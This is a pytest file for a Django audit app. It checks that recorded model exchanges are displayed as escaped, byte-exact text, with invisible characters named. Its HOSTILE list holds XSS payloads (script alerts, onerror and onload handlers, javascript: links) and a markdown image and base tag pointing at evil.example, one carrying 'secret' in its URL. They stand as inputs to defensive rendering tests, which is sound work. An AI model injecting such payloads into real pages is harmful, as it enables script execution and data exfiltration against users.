"""One exchange in full: as it was, as text, whatever it holds."""

import html
import re
from datetime import timedelta

import pytest
from django.template import VariableDoesNotExist, engines

from apps.audit.exchange import read
from apps.audit.pseudonyms import pseudonym
from apps.ledger.facts import PassageFact, Who
from apps.ledger.ids import new_id
from apps.ledger.models import Intent
from apps.ledger.vocabulary import OutcomeKind
from apps.privacy import destruction, keys
from tests.audit.conftest import MAYA, NOON

pytestmark = pytest.mark.django_db


@pytest.fixture
def opened(desk):
    """Open an exchange and give its page."""

    def page(exchange_id):
        response = desk.get(f"/audit/exchanges/{exchange_id}")
        assert response.status_code == 200
        return response.content.decode()

    return page


def words(page: str) -> str:
    """The text of a page as a reader sees it."""
    return html.unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", page)))


def test_an_exchange_is_shown_whole(make_exchange, opened):
    passage = PassageFact(new_id(), new_id(), "team:Sales")

    page = words(opened(make_exchange(passages=(passage,), labels={passage.passage_id: "Travel policy"})))

    for fact in [
        pseudonym(MAYA.id), "Sales", "Browser", "SmolLM2 135M", "This machine", "Inside the network", "Answered",
        "12 in, 7 out", "0.0021 EUR", "Be brief.", "Please greet <PERSON_1>", "Dear <PERSON_1>, welcome.", "name model",
        "0.85", "Travel policy", "team:Sales", "policy-7", "chat-1", "Recorded, before anything left", "after 2.0 s",
    ]:  # fmt: skip
        assert fact in page, fact


def test_what_left_is_shown_byte_for_byte(make_exchange, opened):
    text = "  two  spaces\n\ttab\n\n&amp; <b>bold</b> 'q' \"d\" \\ **md** [link](http://x) \N{SNOWMAN}"

    page = opened(make_exchange(text))

    shown = re.findall(r"<pre[^>]*>(.*?)</pre>", page, flags=re.DOTALL)[1]
    assert html.unescape(shown) == text


HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "![x](http://evil.example/?q=secret)",
    "[click](javascript:alert(1))", "</pre></section><h1>Nothing to see</h1>", "<svg/onload=alert(1)>",
    "{{ intent.id }}{% load x %}", "<!-- ", "]]>", "&lt;script&gt;", "<iframe srcdoc='<script>1</script>'>",
    "<style>*{display:none}</style>", "<base href=//evil.example>", '" onmouseover="alert(1)',
]  # fmt: skip


FRAME_OF_THE_PAGE = re.compile(
    r'<iframe class="formatted-frame" title="[^"]*" sandbox referrerpolicy="no-referrer"'
    r' data-address="/audit/exchanges/[0-9a-f-]+/formatted/(?:left|answer)" hidden></iframe>'
)


@pytest.mark.thorough
@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_in_every_place_is_shown_as_text(make_exchange, desk, opened, hostile):
    passage = PassageFact(new_id(), new_id(), hostile)
    exchange_id = make_exchange(
        hostile, answer=hostile, ends=OutcomeKind.FAILED, reason=hostile, model_label=hostile, provider_label=hostile,
        who=Who(new_id(), hostile, new_id(), hostile), masked=(hostile,), passages=(passage,), policy_version=hostile,
        prompt_version=hostile, labels={passage.passage_id: hostile},
    )  # fmt: skip
    harmless = make_exchange("Please greet <PERSON_1>", ends=OutcomeKind.FAILED, reason="x", passages=(passage,),
        labels={passage.passage_id: "Travel policy"})  # fmt: skip

    for page in (
        opened(exchange_id),
        desk.get("/audit/exchanges").content.decode(),
        desk.get("/audit/events").content.decode(),
    ):
        assert "alert(1)</script" not in page
        assert "<img src=x" not in page
        assert "<svg/onload" not in page
        assert "<iframe" not in FRAME_OF_THE_PAGE.sub("", page)
        assert "<base" not in page
        assert "<style" not in page
        assert "Nothing to see</h1>" not in page
        assert 'href="javascript' not in page
        assert "evil.example" not in "".join(re.findall(r'(?:href|src|action)="([^"]*)"', page))
        assert not re.search(r'<[a-z]+ [^>]*onmouseover="', page)
    tags = [len(re.findall(r"<[a-z]", opened(one))) for one in (exchange_id, harmless)]
    assert tags[0] <= tags[1]
    assert hostile in html.unescape(re.sub(r'<span class="masked">|</span>', "", opened(exchange_id)))


@pytest.mark.parametrize(
    ("character", "name"),
    [
        ("\u202e", "U+202E"), ("\u200b", "U+200B"), ("\x1b", "U+001B"), ("\x00", "U+0000"), ("\U000e0041", "U+E0041"),
        ("\ufeff", "U+FEFF"), ("\xad", "U+00AD"), ("\x07", "U+0007"), ("\u2066", "U+2066"), ("\ud800", "U+D800"),
        ("\x85", "U+0085"), ("\u2028", "U+2028"), ("\u2800", "U+2800"), ("\r", "U+000D"), ("\u061c", "U+061C"),
    ],
)  # fmt: skip
def test_characters_that_cannot_be_seen_are_named(make_exchange, opened, character, name):
    page = opened(make_exchange(f"pay {character}evil"))

    assert f'">{name}</span>evil' in page
    assert character not in page


def test_the_ends_of_lines_are_not_littered_with_names(make_exchange, opened):
    assert "U+000D" not in opened(make_exchange("one\r\ntwo\n\ttabbed"))


def test_a_page_that_fails_repeats_nobody_s_words(make_exchange, officer):
    exchange = read(officer, make_exchange("a secret plan", answer="a secret answer"))
    broken_page = engines["django"].from_string("{% load audit %}{{ exchange|found:missing }}")

    with pytest.raises(VariableDoesNotExist) as failed:
        broken_page.render({"exchange": exchange, "left": exchange.left, "answer": exchange.answer})

    assert "READABLE" in str(failed.value)
    assert "secret" not in str(failed.value)


@pytest.mark.thorough
def test_a_megabyte_is_shown_to_its_end(make_exchange, opened):
    text = "line of text <PERSON_1>\n" * 43_000 + "the very end"

    page = opened(make_exchange(text, answer=text))

    assert page.count("the very end</pre>") == 2


def test_an_exchange_in_progress_says_so(make_exchange, opened):
    page = opened(make_exchange(ends=None))

    assert "In progress" in page
    assert "Waiting for the outcome" in page


def test_a_refusal_shows_its_reason_and_that_nothing_was_sent(make_exchange, opened):
    page = words(opened(make_exchange(ends=OutcomeKind.REFUSED, reason="Your team's budget is spent.")))

    assert "Your team's budget is spent." in page
    assert "Refused, nothing was sent" in page
    assert "What would have left" in page


def test_a_refusal_before_a_prompt_was_made_shows_that(make_exchange, opened):
    page = opened(make_exchange(ends=OutcomeKind.REFUSED, sealed_payload=b""))

    assert "Nothing was recorded: it was refused before a prompt was made." in page


def test_an_erased_conversation_leaves_the_record_without_the_words(make_exchange, opened):
    exchange_id = make_exchange("a word to forget")
    destruction.destroy_one(Intent.objects.get().conversation_id)

    page = words(opened(exchange_id))

    assert "a word to forget" not in page
    assert "Erased" in page
    assert pseudonym(MAYA.id) in page
    assert "Maya" not in page


def test_a_payload_moved_from_another_exchange_is_called_broken(make_exchange, opened):
    make_exchange("moved")
    stolen = bytes(Intent.objects.get().sealed_payload)

    page = opened(make_exchange(sealed_payload=stolen))

    assert "The seal is broken" in page


def test_without_the_master_key_the_page_says_so(make_exchange, opened, settings):
    exchange_id = make_exchange()
    settings.MASTER_KEY_FILE = "/nonexistent/master.key"

    assert "The master key is missing" in opened(exchange_id)


def test_a_payload_of_another_shape_is_shown_whole(make_exchange, opened):
    conversation = new_id()
    sealed = keys.seal(conversation, b'{"odd": "shape"} \xff', purpose="ledger.payload")

    page = html.unescape(opened(make_exchange(conversation_id=conversation, sealed_payload=sealed)))

    assert '{"odd": "shape"} \\xff' in page


def test_the_page_says_who_looked(make_exchange, opened):
    exchange_id = make_exchange(now=NOON - timedelta(days=1))

    page = words(opened(exchange_id))

    assert "Looked at by Grace" in page
